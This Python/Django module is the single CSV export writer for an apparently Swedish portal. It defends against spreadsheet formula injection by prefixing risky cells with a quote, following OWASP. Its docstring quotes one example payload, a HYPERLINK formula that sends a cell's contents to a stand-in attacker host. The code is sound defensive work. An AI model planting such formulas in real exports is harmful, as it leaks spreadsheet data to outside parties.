"""The one CSV writer of the portal: every export goes through it.

A spreadsheet (Excel, LibreOffice, Google Sheets) reads a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula, so a decision text such as
``=HYPERLINK("https://evil.example/?"&A1;"Klicka")`` would run when the secretariat opens the
export (CSV injection). OWASP's rule: prefix such a cell with a single quote, which spreadsheets
show as text. Real numbers (int, float, Decimal) are written as they are: ``-500`` is an
amount, not a formula; the same characters in a *string* are neutralised. So amounts are passed
as numbers, not preformatted strings.

``tests/core/test_csv_export.py`` fails when ``csv.writer`` or ``csv.DictWriter`` is used
anywhere else in the portal.
"""

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

from django.http import HttpResponse

# OWASP "CSV Injection": the characters a spreadsheet may start a formula with.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: object) -> object:
    """The cell as it is safe to write: numbers and empty cells unchanged, text that a
    spreadsheet would take for a formula prefixed with ``'``."""
    if value is None or isinstance(value, int | float | Decimal):  # bool is an int
        return value
    text = str(value)  # lazy translations, dates, model instances
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """``csv.writer`` with every cell neutralised (``writerow``/``writerows``)."""

    def __init__(self, stream: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(stream: _Writable, **fmtparams: Any) -> SafeWriter:
    """A CSV writer on ``stream`` (a file, ``HttpResponse``, a command's stdout) that writes no
    cell a spreadsheet would run as a formula; ``fmtparams`` as for ``csv.writer``."""
    return SafeWriter(stream, **fmtparams)


def csv_response(filename: str) -> tuple[HttpResponse, SafeWriter]:
    """A CSV download named ``filename`` and the safe writer that fills it."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")  # Excel opens UTF-8 only with a byte-order mark
    return response, safe_writer(response)
